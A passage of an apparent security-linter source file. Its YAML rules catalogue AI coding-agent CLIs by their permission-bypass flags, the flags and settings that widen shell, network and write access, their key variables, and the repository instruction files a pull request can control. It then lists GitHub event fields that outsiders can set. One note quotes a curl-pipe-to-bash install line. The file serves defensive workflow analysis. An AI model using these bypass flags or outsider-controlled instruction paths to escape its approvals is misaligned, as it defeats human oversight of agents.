        pattern: '(?<![\\w(])Bash\\((?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|env|eval|xargs|npx|bunx|uvx|deno)\\b'
        grants: { shell: full }
      - input: --allowed-tools
        pattern: '(?<![\\w(])Bash\\((?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|env|eval|xargs|npx|bunx|uvx|deno)\\b'
        grants: { shell: full }
      - input: --allowedTools
        pattern: '(?<![\\w(])Bash\\('
        grants: { shell: restricted }
      - input: --allowed-tools
        pattern: '(?<![\\w(])Bash\\('
        grants: { shell: restricted }
      - input: --allowedTools
        pattern: '(?<![\\w(])(?:WebFetch|WebSearch|mcp__)'
        grants: { network: true }
      - input: --allowed-tools
        pattern: '(?<![\\w(])(?:WebFetch|WebSearch|mcp__)'
        grants: { network: true }
      - input: --allowedTools
        pattern: '(?<![\\w(])(?:Edit|Write|MultiEdit|NotebookEdit)\\b'
        grants: { writesFiles: true }
      - input: --allowed-tools
        pattern: '(?<![\\w(])(?:Edit|Write|MultiEdit|NotebookEdit)\\b'
        grants: { writesFiles: true }
      - input: --permission-mode
        pattern: '^acceptEdits$'
        grants: { writesFiles: true }
      - input: --mcp-config
        pattern: '^'
        grants: { network: true }
      - input: --settings
        pattern: '"defaultMode"\\s*:\\s*"(?:bypassPermissions|auto)"'
        grants: { shell: full, network: true, writesFiles: true }
      - input: --settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"Bash(?:\\(\\s*:?\\*?\\s*\\))?"'
        grants: { shell: full }
      - input: --settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"Bash\\('
        grants: { shell: restricted }
    toolNarrowers:
      - input: --disallowedTools
        pattern: '(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: none }
      - input: --disallowed-tools
        pattern: '(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: none }
    # Non-interactive: reads only; anything that would prompt is denied.
    defaults: { shell: none, network: false, writesFiles: false }
    keyEnv: [ANTHROPIC_API_KEY, ANTHROPIC_AUTH_TOKEN, CLAUDE_CODE_OAUTH_TOKEN, AWS_BEARER_TOKEN_BEDROCK, ANTHROPIC_FOUNDRY_API_KEY]
    baseUrlEnv: [ANTHROPIC_BASE_URL, ANTHROPIC_BEDROCK_BASE_URL, ANTHROPIC_VERTEX_BASE_URL, ANTHROPIC_FOUNDRY_BASE_URL]
    # .husky/ holds git hooks that run when the agent commits; claude-code-action restores it from base.
    instructionFiles: [CLAUDE.md, CLAUDE.local.md, .claude/, .mcp.json, .claude.json, .husky/]
    provider: anthropic
    confidence: V
    notes: >-
      Nested CLAUDE.md files in subdirectories are also read when Claude works there. Repository
      .claude/settings.json can set env (ANTHROPIC_BASE_URL), hooks and apiKeyHelper.

  # B2. OpenAI Codex CLI
  - id: codex
    name: Codex CLI
    commands: [codex]
    packages: ['@openai/codex']
    # \`codex exec\` (alias \`e\`) is headless; the old TypeScript CLI ran headless with -q/--quiet.
    subcommands: [exec, e]
    requiredFlags: [-q, --quiet]
    infoFlags: [--version, -V, --help, -h]
    valueFlags: [-m, --model, -c, --config, -C, --cd, -s, --sandbox, -a, --ask-for-approval, -p, --profile, -i, --image, --add-dir, --output-schema, -o, --output-last-message, --color, --local-provider, --enable, --disable]
    bypassFlags: [--dangerously-bypass-approvals-and-sandbox, --yolo, --sandbox=danger-full-access, -s=danger-full-access]
    toolWideners:
      # --full-auto: approvals on request, sandbox workspace-write (still no network).
      - input: --full-auto
        pattern: '^'
        grants: { writesFiles: true }
      - input: --sandbox
        pattern: '^workspace-write$'
        grants: { writesFiles: true }
      - input: -s
        pattern: '^workspace-write$'
        grants: { writesFiles: true }
      - input: -c
        pattern: 'sandbox_mode\\s*=\\s*["'']?danger-full-access'
        grants: { shell: full, network: true, writesFiles: true }
      - input: --config
        pattern: 'sandbox_mode\\s*=\\s*["'']?danger-full-access'
        grants: { shell: full, network: true, writesFiles: true }
      - input: -c
        pattern: 'network_access\\s*=\\s*true'
        grants: { network: true }
      - input: --config
        pattern: 'network_access\\s*=\\s*true'
        grants: { network: true }
      - input: -c
        pattern: 'sandbox_mode\\s*=\\s*["'']?workspace-write'
        grants: { writesFiles: true }
    # \`codex exec\` runs any command, in a read-only sandbox without network, with approvals never.
    defaults: { shell: full, network: false, writesFiles: false }
    keyEnv: [OPENAI_API_KEY, CODEX_API_KEY]
    baseUrlEnv: [OPENAI_BASE_URL, CODEX_OSS_BASE_URL]
    instructionFiles: [AGENTS.md, AGENTS.override.md, .codex/]
    provider: openai
    confidence: V
    notes: >-
      --full-auto is reported deprecated in recent builds [3P]. The sandboxed shell can still read the
      environment (OPENAI_API_KEY). Project .codex/config.toml is [U].

  # B3. Gemini CLI
  - id: gemini
    name: Gemini CLI
    commands: [gemini]
    packages: ['@google/gemini-cli']
    nonRunSubcommands: [extensions, mcp, skills, hooks, update]
    infoFlags: [--version, -v, --help, -h, --list-extensions, -l]
    valueFlags: [-p, --prompt, -i, --prompt-interactive, -m, --model, --approval-mode, --allowed-tools, --allowed-mcp-server-names, -e, --extensions, --output-format, -o, --include-directories]
    bypassFlags: [--yolo, -y, --approval-mode=yolo]
    bypassEnv: []
    toolFlags: [--allowed-tools]
    toolWideners:
      - input: --approval-mode
        pattern: '^auto_edit$'
        grants: { writesFiles: true }
      - input: --allowed-tools
        pattern: '(?<![\\w(])run_shell_command(?![\\w(])'
        grants: { shell: full }
      - input: --allowed-tools
        pattern: '(?<![\\w(])run_shell_command\\('
        grants: { shell: restricted }
      - input: --allowed-tools
        pattern: '(?<![\\w(])web_fetch\\b'
        grants: { network: true }
      - input: --allowed-tools
        pattern: '(?<![\\w(])(?:write_file|replace|edit)\\b'
        grants: { writesFiles: true }
    # Headless without --yolo: tools that need confirmation (shell, edits, web_fetch) are unavailable.
    defaults: { shell: none, network: false, writesFiles: false }
    keyEnv: [GEMINI_API_KEY, GOOGLE_API_KEY, GOOGLE_CLOUD_ACCESS_TOKEN, GOOGLE_APPLICATION_CREDENTIALS]
    baseUrlEnv: [GOOGLE_GEMINI_BASE_URL, GOOGLE_VERTEX_BASE_URL, CODE_ASSIST_ENDPOINT]
    # Workspace settings and project .env load only in a trusted folder (GEMINI_CLI_TRUST_WORKSPACE=true or --skip-trust).
    instructionFiles: [GEMINI.md, .gemini/, .env]
    provider: gemini
    confidence: V

  # B4. Qwen Code (gemini-cli fork)
  - id: qwen
    name: Qwen Code
    commands: [qwen]
    packages: ['@qwen-code/qwen-code']
    nonRunSubcommands: [extensions, mcp, update]
    infoFlags: [--version, -v, --help, -h]
    valueFlags: [-p, --prompt, -i, --prompt-interactive, -m, --model, --approval-mode, --allowed-tools, -e, --extensions, --output-format, -o, --include-directories, --openai-api-key, --openai-base-url, --channel]
    bypassFlags: [--yolo, -y, --approval-mode=yolo]
    toolFlags: [--allowed-tools]
    toolWideners:
      - input: --approval-mode
        pattern: '^auto[_-]edit$'
        grants: { writesFiles: true }
      - input: --allowed-tools
        pattern: '(?<![\\w(])run_shell_command(?![\\w(])'
        grants: { shell: full }
      - input: --allowed-tools
        pattern: '(?<![\\w(])run_shell_command\\('
        grants: { shell: restricted }
      - input: --allowed-tools
        pattern: '(?<![\\w(])web_fetch\\b'
        grants: { network: true }
    defaults: { shell: none, network: false, writesFiles: false }
    keyEnv: [OPENAI_API_KEY]
    baseUrlEnv: [OPENAI_BASE_URL]
    instructionFiles: [QWEN.md, .qwen/, .env]
    provider: openai
    confidence: D

  # B5. aider
  - id: aider
    name: aider
    commands: [aider]
    packages: [aider-chat]
    modules: [aider]
    infoFlags: [--version, --help, -h, --list-models, --models, --just-check-update, --upgrade, --update, --install-main-branch]
    valueFlags:
      - --model
      - --message
      - -m
      - --message-file
      - -f
      - --read
      - --file
      - --lint-cmd
      - --test-cmd
      - --api-key
      - --openai-api-key
      - --anthropic-api-key
      - --openai-api-base
      - --edit-format
      - --weak-model
      - --editor-model
      - --config
      - -c
      - --env-file
      - --map-tokens
      - --chat-history-file
      - --input-history-file
      - --model-settings-file
      - --model-metadata-file
      - --encoding
    # --yes in older releases and community use.
    bypassFlags: [--yes-always, --yes]
    # Applies edits and commits without asking; suggested shell commands need confirmation.
    defaults: { shell: none, network: false, writesFiles: true }
    keyEnv: [OPENAI_API_KEY, ANTHROPIC_API_KEY, GEMINI_API_KEY, OPENROUTER_API_KEY, DEEPSEEK_API_KEY, GROQ_API_KEY, AIDER_OPENAI_API_KEY, AIDER_ANTHROPIC_API_KEY]
    baseUrlEnv: [OPENAI_API_BASE, AIDER_OPENAI_API_BASE]
    # .env is read from home, git root and cwd; the git root is PR-controllable.
    instructionFiles: [.aider.conf.yml, .env, .aiderignore, .aider.model.settings.yml, .aider.model.metadata.json]
    confidence: D
    notes: '--test-cmd / --lint-cmd run workflow-chosen commands (repository code), not model-chosen ones.'

  # B6. goose
  - id: goose
    name: goose
    commands: [goose]
    subcommands: [run]
    infoFlags: [--version, -V, --help, -h]
    valueFlags: [-t, --text, -i, --instructions, --recipe, --provider, --model, -n, --name, --params, --with-extension, --with-builtin, --with-remote-extension, --max-turns, --session-id]
    bypassFlags: []
    bypassEnv:
      - { name: GOOSE_MODE, values: [auto] }
    toolNarrowers:
      - input: GOOSE_MODE
        pattern: '^chat$'
        grants: { shell: none, network: false, writesFiles: false }
    # Docs disagree on the default GOOSE_MODE (smart_approve vs auto) [U]; assume tools run.
    defaults: { shell: full, network: true, writesFiles: true }
    keyEnv: [ANTHROPIC_API_KEY, OPENAI_API_KEY, GOOSE_PROVIDER__API_KEY, GOOGLE_API_KEY, OPENROUTER_API_KEY]
    baseUrlEnv: [GOOSE_PROVIDER__HOST, ANTHROPIC_HOST, OPENAI_HOST]
    instructionFiles: [.goosehints, AGENTS.md]
    confidence: D

  # B7. opencode
  - id: opencode
    name: opencode
    commands: [opencode]
    packages: [opencode-ai]
    subcommands: [run, github run]
    infoFlags: [--version, -v, --help, -h]
    valueFlags: [-m, --model, --agent, -s, --session, -f, --file, --format, --title, --attach, --port, --variant, --log-level]
    bypassFlags: []
    # OPENCODE_PERMISSION (JSON) and OPENCODE_CONFIG_CONTENT's "permission" restrict tools.
    toolNarrowers:
      - input: OPENCODE_PERMISSION
        pattern: '"bash"\\s*:\\s*"deny"'
        grants: { shell: none }
      - input: OPENCODE_PERMISSION
        pattern: '"bash"\\s*:\\s*\\{\\s*"\\*"\\s*:\\s*"deny"'
        grants: { shell: restricted }
      - input: OPENCODE_PERMISSION
        pattern: '"edit"\\s*:\\s*"deny"'
        grants: { writesFiles: false }
      - input: OPENCODE_PERMISSION
        pattern: '"webfetch"\\s*:\\s*"deny"'
        grants: { network: false }
      - input: OPENCODE_CONFIG_CONTENT
        pattern: '"permission"\\s*:\\s*\\{[^}]*"bash"\\s*:\\s*"deny"'
        grants: { shell: none }
    # Default permissions in \`opencode run\` not verified [U]: assume everything is allowed.
    defaults: { shell: full, network: true, writesFiles: true }
    keyEnv: [ANTHROPIC_API_KEY, OPENAI_API_KEY, OPENCODE_API_KEY, GEMINI_API_KEY, OPENROUTER_API_KEY]
    # OPENCODE_CONFIG_CONTENT can set provider.<id>.options.baseURL.
    baseUrlEnv: [OPENCODE_CONFIG_CONTENT]
    instructionFiles: [opencode.json, opencode.jsonc, .opencode/, AGENTS.md, CLAUDE.md]
    confidence: D
    notes: npm package name opencode-ai is [U]; the documented install is \`curl -fsSL https://opencode.ai/install | bash\`.

  # B8. Cursor CLI
  - id: cursor
    name: Cursor CLI
    commands: [agent, cursor-agent]
    # \`agent\` is a common word: only \`agent -p\` / \`--print\` counts.
    requiredFlags: [-p, --print]
    infoFlags: [--version, --help, -h]
    valueFlags: [--model, -m, --output-format, --api-key, --workspace, --mode, --sandbox, -H, --header, --resume]
    bypassFlags: [--force, -f, --yolo]
    # "-p has access to all tools, including write and shell"; commands still need --force [3P].
    defaults: { shell: none, network: false, writesFiles: true }
    keyEnv: [CURSOR_API_KEY]
    instructionFiles: [.cursor/, .cursorrules, AGENTS.md, CLAUDE.md]
    confidence: 3P

  # B9. GitHub Copilot CLI
  - id: copilot
    name: GitHub Copilot CLI
    commands: [copilot]
    packages: ['@github/copilot']
    nonRunSubcommands: [login, logout, help, update, version, mcp, plugin, init]
    infoFlags: [--version, --help, -h]
    valueFlags: [-p, --prompt, --model, --allow-tool, --deny-tool, --allow-url, --deny-url, --add-dir, --log-level, --log-dir, --agent, --share, --resume, --secret-env-vars, --additional-mcp-config, --config-dir]
    bypassFlags: [--allow-all-tools, --allow-all, --yolo]
    bypassEnv:
      - { name: COPILOT_ALLOW_ALL, values: ['true', '1'] }   # [3P]
    toolFlags: [--allow-tool]
    toolWideners:
      - input: --allow-tool
        pattern: '^shell(?:\\(\\s*\\*?\\s*\\))?$'
        grants: { shell: full }
      - input: --allow-tool
        pattern: '^shell\\('
        grants: { shell: restricted }
      - input: --allow-tool
        pattern: '^write\\b'
        grants: { writesFiles: true }
      # Any other name is an MCP server (github, ...).
      - input: --allow-tool
        pattern: '^(?!shell\\b|write\\b)[\\w.-]+'
        grants: { network: true }
      - input: --allow-all-urls
        pattern: '^'
        grants: { network: true }
      - input: --allow-url
        pattern: '^'
        grants: { network: true }
    toolNarrowers:
      - input: --deny-tool
        pattern: '^shell$'
        grants: { shell: none }
    # -p without allow flags: tools that need approval are denied.
    defaults: { shell: none, network: false, writesFiles: false }
    keyEnv: [COPILOT_GITHUB_TOKEN, GH_TOKEN, GITHUB_TOKEN, COPILOT_PROVIDER_API_KEY]
    baseUrlEnv: [COPILOT_PROVIDER_BASE_URL, COPILOT_API_URL]
    instructionFiles: [.github/copilot-instructions.md, .github/instructions/, AGENTS.md, .github/agents/]
    confidence: D

  # B10. Amp
  - id: amp
    name: Amp
    commands: [amp]
    packages: ['@ampcode/cli', '@sourcegraph/amp']
    nonRunSubcommands: [login, logout, update, mcp, config, permissions, tools, threads, doctor, version, install]
    infoFlags: [--version, --help, -h]
    valueFlags: [-x, --execute, --mode, -m, --settings-file, --log-level, --log-file, --visibility]
    bypassFlags: [--dangerously-allow-all]
    # Current Amp may run tools without approval by default [3P/U].
    defaults: { shell: full, network: true, writesFiles: true }
    keyEnv: [AMP_API_KEY]
    instructionFiles: [AGENTS.md, AGENT.md, .amp/]
    confidence: 3P

  # B11. llm (simonw)
  - id: llm
    name: llm
    commands: [llm]
    packages: [llm]
    modules: [llm]
    nonRunSubcommands: [keys, install, uninstall, models, plugins, logs, templates, aliases, embed, embed-multi, embed-models, similar, collections, openai, schemas, fragments, tools]
    infoFlags: [--version, --help]
    valueFlags: [-m, --model, -s, --system, -t, --template, -T, --tool, -f, --fragment, -a, --attachment, -o, --option, --cid, --conversation, --key, --schema, --cl, --chain-limit, -d, --database]
    bypassFlags: []
    # -T/--tool and --functions tools run without approval unless --ta/--tools-approve; which tools they
    # are is up to the workflow author, so their values are reported, not interpreted.
    toolFlags: [-T, --tool, --functions]
    defaults: { shell: none, network: false, writesFiles: false }
    keyEnv: [OPENAI_API_KEY, ANTHROPIC_API_KEY]
    baseUrlEnv: [OPENAI_BASE_URL]
    instructionFiles: []
    provider: openai
    confidence: V

  # B12. Crush
  - id: crush
    name: Crush
    commands: [crush]
    packages: ['@charmland/crush']
    subcommands: [run]
    infoFlags: [--version, -v, --help, -h]
    valueFlags: [-c, --cwd, --data-dir, -m, --model]
    bypassFlags: [--yolo, -y]
    # Non-interactive \`crush run\` cannot prompt; assumed to auto-approve [U].
    defaults: { shell: full, network: true, writesFiles: true }
    keyEnv: [ANTHROPIC_API_KEY, OPENAI_API_KEY, GEMINI_API_KEY, OPENROUTER_API_KEY, GROQ_API_KEY]
    # .crushrc / crushrc run in a full shell and $(...) in crush.json runs at load time.
    instructionFiles: [.crushrc, crushrc, crush.json, .crush.json, CRUSH.md, AGENTS.md]
    confidence: V

  # B13. Continue CLI
  - id: cn
    name: Continue CLI
    commands: [cn]
    packages: ['@continuedev/cli']
    requiredFlags: [-p, --print]
    infoFlags: [--version, -v, --help, -h]
    valueFlags: [--config, --model, --allow, --ask, --exclude, --format, --rule]
    # Headless excludes tools that would "ask"; --allow "*" / --allow Write widen.
    bypassFlags: ['--allow=*']
    toolFlags: [--allow]
    toolWideners:
      - input: --allow
        pattern: '(?<![\\w(])(?:Bash|run_?terminal_?command|Terminal)\\b'
        grants: { shell: full }
      - input: --allow
        pattern: '(?<![\\w(])(?:Write|Edit)\\b'
        grants: { writesFiles: true }
    defaults: { shell: none, network: false, writesFiles: false }
    keyEnv: [CONTINUE_API_KEY, ANTHROPIC_API_KEY]
    instructionFiles: [.continue/, AGENTS.md]
    confidence: D

  # B14. Plandex
  - id: plandex
    name: Plandex
    commands: [plandex, pdx]
    subcommands: [tell, continue, chat, build]
    infoFlags: [--version, --help, -h]
    bypassFlags: [--full]
    defaults: { shell: none, network: false, writesFiles: true }
    keyEnv: [OPENROUTER_API_KEY, OPENAI_API_KEY, ANTHROPIC_API_KEY]
    instructionFiles: [.plandex/]
    confidence: D
    notes: auto-exec defaults to true in Plandex config [D/3P]; low relevance (cloud winding down).

  # B14. Kiro CLI (successor of Amazon Q Developer CLI \`q\`)
  - id: kiro
    name: Kiro CLI / Amazon Q CLI
    commands: [kiro-cli, q]
    subcommands: [chat]
    infoFlags: [--version, -V, --help, -h]
    valueFlags: [--agent, --model, --trust-tools, --resume]
    bypassFlags: [--trust-all-tools]
    toolFlags: [--trust-tools]
    toolWideners:
      - input: --trust-tools
        pattern: '(?<![\\w(])(?:execute_bash|shell)\\b'
        grants: { shell: full }
      - input: --trust-tools
        pattern: '(?<![\\w(])fs_write\\b'
        grants: { writesFiles: true }
    defaults: { shell: none, network: false, writesFiles: false }
    keyEnv: [KIRO_API_KEY]
    instructionFiles: [.kiro/, .amazonq/, AGENTS.md]
    confidence: D

  # B14. OpenHands (resolver module; the reusable workflow runs it)
  - id: openhands
    name: OpenHands
    commands: []
    packages: [openhands-ai]
    modules: [openhands.resolver.resolve_issue, openhands.core.main]
    infoFlags: [--help, -h]
    bypassFlags: []
    # Commands run in a sandbox container with network.
    defaults: { shell: full, network: true, writesFiles: true }
    keyEnv: [LLM_API_KEY]
    baseUrlEnv: [LLM_BASE_URL]
    instructionFiles: [.openhands/, .openhands_instructions]
    confidence: V
    notes: openhands.core.main (headless \`-t task\`) is [U]; openhands.resolver.send_pull_request is not an agent run.

  # Cline CLI (attacks.md \xA73; corpus cline__cline__cline-pr-review uses \`npx cline@nightly --yolo\`)
  - id: cline
    name: Cline CLI
    commands: [cline]
    packages: [cline]
    nonRunSubcommands: [auth, config, version, update, mcp, instance, login, logout]
    infoFlags: [--version, --help, -h]
    bypassFlags: [--yolo, -y]
    defaults: { shell: none, network: false, writesFiles: false }
    keyEnv: [CLINE_API_KEY, ANTHROPIC_API_KEY, OPENROUTER_API_KEY]
    instructionFiles: [.clinerules, .clinerules/, AGENTS.md]
    confidence: U
    notes: CLINE_COMMAND_PERMISSIONS restricts commands [U semantics].

  # Factory Droid CLI (droid-action runs \`droid exec --skip-permissions-unsafe\`)
  - id: droid
    name: Factory Droid
    commands: [droid]
    subcommands: [exec]
    infoFlags: [--version, --help, -h]
    valueFlags: [--auto, -m, --model, -f, --file, --cwd, -o, --output-format, --session-id, --reasoning-effort, --enabled-tools, --disabled-tools]
    bypassFlags: [--skip-permissions-unsafe, --auto=high]
    toolFlags: [--enabled-tools]
    toolWideners:
      - input: --auto
        pattern: '^(?:low|medium)$'
        grants: { writesFiles: true }
    defaults: { shell: none, network: false, writesFiles: false }
    keyEnv: [FACTORY_API_KEY]
    instructionFiles: [AGENTS.md, .factory/]
    confidence: U

  # Warp agent CLI (warp-agent-action) and Oz (oz-agent-action)
  - id: warp-cli
    name: Warp agent CLI
    commands: [warp-cli, warp]
    subcommands: [agent run]
    infoFlags: [--version, --help, -h]
    valueFlags: [--prompt, --saved-prompt, --profile, --model, --mcp, --cwd, --name, --share, --output-format]
    bypassFlags: []
    toolWideners:
      - input: --profile
        pattern: '^'
        grants: { network: true }
      - input: --mcp
        pattern: '^'
        grants: { network: true }
    defaults: { shell: full, network: false, writesFiles: true }
    keyEnv: [WARP_API_KEY]
    instructionFiles: [WARP.md, AGENTS.md, .warp/]
    confidence: U
  - id: oz
    name: Oz agent CLI
    commands: [oz]
    subcommands: [agent run, agent run-cloud]
    infoFlags: [--version, --help, -h]
    valueFlags: [--prompt, --saved-prompt, --skill, --profile, --model, --mcp, --cwd, --name, --share, --output-format, --environment, --host]
    bypassFlags: []
    toolWideners:
      - input: --profile
        pattern: '^'
        grants: { network: true }
      - input: --mcp
        pattern: '^'
        grants: { network: true }
    defaults: { shell: full, network: false, writesFiles: true }
    keyEnv: [WARP_API_KEY]
    instructionFiles: [WARP.md, AGENTS.md, .warp/]
    confidence: U
`;

// rules/sources.yml
var sources_default = "# Outsider-controlled contexts: text in the event payload that someone without write access can set.\n# Shape: SourcesFile in src/analysis/ruleTypes.ts.\n# Merged from CodeQL's untrusted_event_properties.yml groups (TITLE, URL, TEXT, BRANCH, LABEL, EMAIL,\n# USERNAME, PATH, JSON) and zizmor's `arbitrary` contexts (linter-anchors.md \xA74.2, \xA78.1).\n#\n# Paths are lowercased and dotted; array indexes are written `*` (so `commits[0].message` and\n# `commits[*].message` both match `github.event.commits.*.message`). A path also covers everything below it.\n# `author`: whose text it is (issue, comment, pull_request, review, discussion, commit, workflow_run,\n# payload, actor). `events`: where the context exists; omitted = any event.\n#\n# Deliberately NOT sources:\n# - Label names (`github.event.label.name`, `*.labels.*.name`): outsiders cannot create or apply labels\n#   (needs triage), so a label name is maintainer text. CodeQL's LABEL group is left out for that reason.\n# - Logins and repository names (`*.user.login`, `head.repo.name`, `head.repo.full_name`): GitHub\n#   restricts them to [A-Za-z0-9._-], which cannot carry spaces, quotes or shell syntax.\n# - `github.event.merge_group.head_ref` (CodeQL lists it): GitHub generates it as\n#   `refs/heads/gh-readonly-queue/<base>/pr-<number>-<sha>`, and only writers enqueue. The merge group's\n#   head commit message does quote the PR title, so that is listed below.\n# - `github.event.inputs.*` / `inputs.*` of workflow_dispatch: the dispatcher has write access.\n#   workflow_call inputs are followed by taint tracking through the caller, not listed here.\n# - Maintainer-only objects: milestone titles, label descriptions, project cards, deployment payloads.\n\ncontexts:\n  # ---- TITLE ------------------------------------------------------------------------------------\n  - { path: github.event.issue.title, kind: title, author: issue, events: [issues, issue_comment] }\n  - { path: github.event.pull_request.title, kind: title, author: pull_request, events: [pull_request, pull_request_target, pull_request_review, pull_request_review_comment] }\n  - { path: github.event.discussion.title, kind: title, author: discussion, events: [discussion, discussion_comment] }\n  - { path: github.event.workflow_run.display_title, kind: title, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.pages.*.page_name, kind: title, author: actor, events: [gollum] }\n  - { path: github.event.pages.*.title, kind: title, author: actor, events: [gollum] }\n  - { path: github.event.pages.*.summary, kind: body, author: actor, events: [gollum] }\n  # The previous title/body on `edited`: the author's earlier text.\n  - { path: github.event.changes.title.from, kind: title, author: issue, events: [issues] }\n  - { path: github.event.changes.title.from, kind: title, author: pull_request, events: [pull_request, pull_request_target] }\n  - { path: github.event.changes.title.from, kind: title, author: discussion, events: [discussion] }\n  # Release names/notes are written by maintainers, but generated notes quote outsiders' PR titles.\n  - { path: github.event.release.name, kind: title, author: actor, events: [release] }\n\n  # ---- TEXT ---------------------------------------------------------------------------------------\n  - { path: github.event.issue.body, kind: body, author: issue, events: [issues, issue_comment] }\n  - { path: github.event.pull_request.body, kind: body, author: pull_request, events: [pull_request, pull_request_target, pull_request_review, pull_request_review_comment] }\n  - { path: github.event.discussion.body, kind: body, author: discussion, events: [discussion, discussion_comment] }\n  - { path: github.event.comment.body, kind: body, author: comment, events: [issue_comment, pull_request_review_comment, discussion_comment, commit_comment] }\n  - { path: github.event.review.body, kind: body, author: review, events: [pull_request_review] }\n  # discussion `answered`: the comment marked as the answer.\n  - { path: github.event.answer.body, kind: body, author: comment, events: [discussion] }\n  - { path: github.event.changes.body.from, kind: body, author: issue, events: [issues] }\n  - { path: github.event.changes.body.from, kind: body, author: comment, events: [issue_comment, pull_request_review_comment, discussion_comment] }\n  - { path: github.event.changes.body.from, kind: body, author: pull_request, events: [pull_request, pull_request_target] }\n  - { path: github.event.changes.body.from, kind: body, author: review, events: [pull_request_review] }\n  - { path: github.event.changes.body.from, kind: body, author: discussion, events: [discussion] }\n  - { path: github.event.release.body, kind: body, author: actor, events: [release] }\n  # The fork's repository description is set by whoever owns the fork.\n  - { path: github.event.pull_request.head.repo.description, kind: body, author: pull_request, events: [pull_request, pull_request_target, pull_request_review, pull_request_review_comment] }\n  - { path: github.event.workflow_run.head_repository.description, kind: body, author: workflow_run, events: [workflow_run] }\n  # A review comment's diff hunk is the PR's code.\n  - { path: github.event.comment.diff_hunk, kind: code, author: pull_request, events: [pull_request_review_comment] }\n\n  # ---- URL ----------------------------------------------------------------------------------------\n  - { path: github.event.pull_request.head.repo.homepage, kind: url, author: pull_request, events: [pull_request, pull_request_target, pull_request_review, pull_request_review_comment] }\n  - { path: github.event.workflow_run.head_repository.homepage, kind: url, author: workflow_run, events: [workflow_run] }\n\n  # ---- BRANCH -------------------------------------------------------------------------------------\n  - { path: github.head_ref, kind: branch, author: pull_request, events: [pull_request, pull_request_target] }\n  - { path: github.event.pull_request.head.ref, kind: branch, author: pull_request, events: [pull_request, pull_request_target, pull_request_review, pull_request_review_comment] }\n  - { path: github.event.pull_request.head.label, kind: branch, author: pull_request, events: [pull_request, pull_request_target, pull_request_review, pull_request_review_comment] }\n  - { path: github.event.workflow_run.head_branch, kind: branch, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.workflow_run.pull_requests.*.head.ref, kind: branch, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.check_suite.head_branch, kind: branch, author: pull_request, events: [check_suite] }\n  - { path: github.event.check_suite.pull_requests.*.head.ref, kind: branch, author: pull_request, events: [check_suite] }\n  - { path: github.event.check_run.check_suite.head_branch, kind: branch, author: pull_request, events: [check_run] }\n  - { path: github.event.check_run.pull_requests.*.head.ref, kind: branch, author: pull_request, events: [check_run] }\n\n  # ---- commit messages, EMAIL and author names (git author/committer fields are free text) ----------\n  - { path: github.event.commits.*.message, kind: commit message, author: commit, events: [push] }\n  - { path: github.event.commits.*.author.name, kind: name, author: commit, events: [push] }\n  - { path: github.event.commits.*.author.email, kind: email, author: commit, events: [push] }\n  - { path: github.event.commits.*.committer.name, kind: name, author: commit, events: [push] }\n  - { path: github.event.commits.*.committer.email, kind: email, author: commit, events: [push] }\n  - { path: github.event.head_commit.message, kind: commit message, author: commit, events: [push] }\n  - { path: github.event.head_commit.author.name, kind: name, author: commit, events: [push] }\n  - { path: github.event.head_commit.author.email, kind: email, author: commit, events: [push] }\n  - { path: github.event.head_commit.committer.name, kind: name, author: commit, events: [push] }\n  - { path: github.event.head_commit.committer.email, kind: email, author: commit, events: [push] }\n  - { path: github.event.workflow_run.head_commit.message, kind: commit message, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.workflow_run.head_commit.author.name, kind: name, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.workflow_run.head_commit.author.email, kind: email, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.workflow_run.head_commit.committer.name, kind: name, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.workflow_run.head_commit.committer.email, kind: email, author: workflow_run, events: [workflow_run] }\n  - { path: github.event.check_suite.head_commit.message, kind: commit message, author: commit, events: [check_suite] }\n  - { path: github.event.check_suite.head_commit.author.name, kind: name, author: commit, events: [check_suite] }\n  - { path: github.event.check_suite.head_commit.author.email, kind: email, author: commit, events: [check_suite] }\n  - { path: github.event.merge_group.head_commit.message, kind: commit message, author: pull_request, events: [merge_group] }\n  - { path: github.event.merge_group.head_commit.author.name, kind: name, author: pull_request, events: [merge_group] }\n  - { path: github.event.merge_group.head_commit.author.email, kind: email, author: pull_request, events: [merge_group] }\n\n  # ---- PATH (file names in pushed commits) ------------------------------------------------------------\n  - { path: github.event.commits.*.added, kind: path, author: commit, events: [push] }\n  - { path: github.event.commits.*.modified, kind: path, author: commit, events: [push] }\n  - { path: github.event.commits.*.removed, kind: path, author: commit, events: [push] }\n  - { path: github.event.head_commit.added, kind: path, author: commit, events: [push] }\n  - { path: github.event.head_commit.modified, kind: path, author: commit, events: [push] }\n  - { path: github.event.head_commit.removed, kind: path, author: commit, events: [push] }\n  - { path: github.event.comment.path, kind: path, author: pull_request, events: [pull_request_review_comment] }\n\n  # ---- payloads -----------------------------------------------------------------------------------\n  # Sent with a write token, but usually forwarding someone else's text (CodeQL: always critical).\n  - { path: github.event.client_payload, kind: payload, author: payload, events: [repository_dispatch] }\n\n# Objects that, passed whole (`toJSON(...)`, `fromJSON(toJSON(...))`, or as an env value), carry the\n# outsider text listed above.\nwholeObjects:\n  - { path: github, author: actor }\n  - { path: github.event, author: actor }\n  - { path: github.event.issue, author: issue, events: [issues, issue_comment] }\n  - { path: github.event.pull_request, author: pull_request, events: [pull_request, pull_request_target, pull_request_review, pull_request_review_comment] }\n  - { path: github.event.pull_request.head, author: pull_request, events: [pull_request, pull_request_target, pull_request_review, pull_request_review_comment] }\n  - { path: github.event.pull_request.head.repo, author: pull_request, events: [pull_request, pull_request_target, pull_request_review, pull_request_review_comment] }\n  - { path: github.event.comment, author: comment, events: [issue_comment, pull_request_review_comment, discussion_comment, commit_comment] }\n  - { path: github.event.review, author: review, events: [pull_request_review] }\n  - { path: github.event.discussion, author: discussion, events: [discussion, discussion_comment] }\n  - { path: github.event.answer, author: comment, events: [discussion] }\n  - { path: github.event.changes, author: actor, events: [issues, issue_comment, pull_request, pull_request_target, pull_request_review, 